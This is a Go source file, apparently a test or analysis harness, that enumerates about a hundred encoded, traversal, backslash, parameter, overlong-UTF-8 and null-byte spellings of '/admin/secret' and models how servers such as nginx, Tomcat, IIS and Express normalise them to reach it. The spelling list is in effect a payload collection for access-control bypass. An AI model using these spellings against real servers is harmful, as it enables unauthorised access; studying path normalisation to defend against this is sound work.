package smuggling

import (
	"net/url"
	"path"
	"strings"

	"golang.org/x/text/unicode/norm"
)

// The protected path that is asked for, beside what is public.
const secretPath = "/admin/secret"

// inSpellings are request targets for it. In each of spellings X stands for the public segment, A and B
// for those of the path.
func inSpellings() []string {
	spelled := strings.NewReplacer("X", "public", "A", "admin", "B", "secret", "{CAPITALS}", "ADMIN",
		"{ESCAPED}", "%61dmin", "{TWICE}", "%2561dmin", "{WIDE}", "%EF%BD%81dmin", "{U}", "%u0061dmin")
	list := make([]string, len(spellings))
	for i, s := range spellings {
		list[i] = spelled.Replace(s)
	}
	return list
}

var spellings = []string{
	"/A/B",
	// Slashes and dots (RFC 3986 section 6.2.2.3).
	"//A/B", "/A//B", "/./A/B", "/A/./B", "/X/../A/B", "/X/x/../../A/B", "/A/X/../B", "/A/B/", "/A/B//", "/A/B/.", "/X//../A/B", "/.//A/B",
	// Escapes of them, once and twice.
	"/A%2fB", "/A%2FB", "/%2fA/B", "/%2e/A/B", "/X/%2e%2e/A/B", "/X/%2E%2E/A/B", "/X/.%2e/A/B", "/X/%2e./A/B", "/X/%2e%2e%2fA/B", "/X/..%2fA/B", "/X%2f..%2fA/B", "/X%2f%2e%2e%2fA%2fB",
	"/X/%252e%252e/A/B", "/X/..%252fA/B", "/X%252f..%252fA%252fB", "/A%252fB", "/X/%25252e%25252e/A/B",
	// Letters.
	"/{ESCAPED}/B", "/{TWICE}/B", "/{CAPITALS}/B", "/{WIDE}/B", "/{U}/B", "/X/../{ESCAPED}/B",
	// Backslashes.
	`/A\B`, `\A\B`, "/A%5cB", `/X/..\A/B`, `/X\..\A\B`, "/X/..%5cA/B", "/X%5c..%5cA%5cB", "/X/..%255cA/B", `/X/..\..\A/B`,
	// Parameters of segments (RFC 3986 section 3.3).
	"/A;x/B", "/A/B;jsessionid=1", "/;x/A/B", "/X/..;/A/B", "/X/..;x=1/A/B", "/X/x/..;/..;/A/B", "/.;/A/B", "/X/;/../A/B", "/X/..%3b/A/B", "/A%3bx/B", "/X;/../A/B", "/X/%2e%2e;/A/B",
	// Unicode: overlong forms, full-width ones, other slashes and dots.
	"/A%c0%afB", "/X/%c0%ae%c0%ae/A/B", "/X/%c0%ae%c0%ae%c0%afA/B", "/A%e0%80%afB", "/X/%e0%80%ae%e0%80%ae/A/B", "/A%ef%bc%8fB", "/X/%ef%bc%8e%ef%bc%8e/A/B", "/X/%e2%80%a5/A/B", "/A%c1%9cB", "/A%e2%88%95B",
	// What ends a path for some.
	"/A/B%00", "/A/B%00.html", "/A/B%20", "/A/B%09", "/A/B%0a", "/A/B%0d%0aX", "/A/B.", "/A/B%2e", "/A./B", "/A%20/B", "/A/B%3f", "/A/B%3fx", "/A/B%23", "/A/B%23x", "/A/B?", "/A/B%253f",
	// Front controllers, sessions, formats.
	"/index.php/A/B", "/X/index.php/A/B", "/X/x.php/A/B", "/(S(lit3py55t21z5v55vlm25s55))/A/B", "/A/B.json",
}

// reader is how a server reads a path. Each is one that exists, or what several do.
type reader struct {
	name  string
	steps []func(string) string
}

// serves reports whether the server takes a request target for the protected path.
func (s *reader) serves(target string) bool {
	read, _, _ := strings.Cut(target, "?")
	if _, absolute, ok := strings.Cut(read, "://"); ok {
		_, rest, _ := strings.Cut(absolute, "/")
		read = "/" + rest
	}
	for _, step := range s.steps {
		read = step(read)
	}
	return read == secretPath
}

// readers are all of them.
func readers() []reader {
	type steps = []func(string) string
	return []reader{
		{"takes paths as they are", nil},
		{"decodes (Go's ServeMux)", steps{decode}},
		{"decodes and resolves (nginx, Apache httpd)", steps{decode, merge, resolve}},
		{"resolves and decodes", steps{merge, resolve, decode}},
		{"decodes, resolves, and ignores a slash at the end", steps{decode, merge, resolve, trimSlash}},
		{"folds case and ignores a slash at the end (Express)", steps{decode, strings.ToLower, trimSlash}},
		{"drops parameters, decodes and resolves (Tomcat, Jetty)", steps{dropParameters, decode, merge, resolve}},
		{"decodes, drops parameters and resolves (older Tomcat, WebLogic)", steps{decode, dropParameters, merge, resolve}},
		{"resolves, then drops parameters", steps{merge, resolve, dropParameters, decode, trimSlash}},
		{"takes backslashes for slashes (Windows, WHATWG URL)", steps{slashes, decode, slashes, merge, resolve}},
		{"folds case, backslashes, dots and spaces at the end (IIS, Windows)", steps{decode, decodeU, strings.ToLower, slashes, trimSegments, merge, resolve, trimSlash}},
		{"decodes twice", steps{decode, decode, slashes, merge, resolve}},
		{"decodes until nothing is left", steps{decode, decode, decode, decode, slashes, merge, resolve}},
		{"decodes twice and cuts at ? and #", steps{decode, decode, cutAt("?#"), merge, resolve}},
		{"cuts at what can't stand in a name (C libraries, file systems)", steps{decode, cutAt("\x00\r\n\t ?#;"), merge, resolve, trimSlash}},
		{"accepts overlong UTF-8", steps{decode, overlong, slashes, merge, resolve}},
		{"normalizes Unicode (NFKC)", steps{decode, norm.NFKC.String, strings.NewReplacer("\u2215", "/").Replace, merge, resolve}},
		{"runs scripts with a PATH_INFO (PHP)", steps{decode, merge, resolve, pathInfo}},
		{"keeps sessions in paths (ASP.NET)", steps{decode, dropSession}},
		{"takes suffixes for formats (Rails)", steps{decode, dropFormat}},
	}
}

func decode(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) {
			if c, err := url.PathUnescape(s[i : i+3]); err == nil {
				b.WriteString(c)
				i += 2
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func decodeU(s string) string {
	for {
		i := strings.Index(s, "%u00")
		if i < 0 || i+6 > len(s) {
			return s
		}
		s = s[:i] + decode("%"+s[i+4:i+6]) + s[i+6:]
	}
}

func merge(s string) string {
	for strings.Contains(s, "//") {
		s = strings.ReplaceAll(s, "//", "/")
	}
	return s
}

func resolve(s string) string {
	resolved := path.Clean("/" + strings.TrimPrefix(s, "/"))
	if strings.HasSuffix(s, "/") && resolved != "/" {
		resolved += "/"
	}
	return resolved
}

func trimSlash(s string) string { return strings.TrimRight(s, "/") }

func slashes(s string) string { return strings.ReplaceAll(s, `\`, "/") }

func eachSegment(s string, change func(string) string) string {
	segments := strings.Split(s, "/")
	for i := range segments {
		segments[i] = change(segments[i])
	}
	return strings.Join(segments, "/")
}

func dropParameters(s string) string {
	return eachSegment(s, func(segment string) string {
		name, _, _ := strings.Cut(segment, ";")
		return name
	})
}

func trimSegments(s string) string {
	return eachSegment(s, func(segment string) string {
		if strings.Trim(segment, ".") == "" {
			return segment
		}
		return strings.TrimRight(segment, ". ")
	})
}

func cutAt(characters string) func(string) string {
	return func(s string) string {
		if i := strings.IndexAny(s, characters); i >= 0 {
			return s[:i]
		}
		return s
	}
}

func overlong(s string) string {
	return strings.NewReplacer("\xc0\xaf", "/", "\xc0\xae", ".", "\xe0\x80\xaf", "/", "\xe0\x80\xae", ".", "\xc1\x9c", `\`).Replace(s)
}

func pathInfo(s string) string {
	if _, rest, ok := strings.Cut(s, ".php/"); ok {
		return "/" + rest
	}
	return s
}

func dropSession(s string) string {
	if _, rest, ok := strings.Cut(s, "))/"); ok && strings.HasPrefix(s, "/(S(") {
		return "/" + rest
	}
	return s
}

func dropFormat(s string) string { return strings.TrimSuffix(s, path.Ext(s)) }
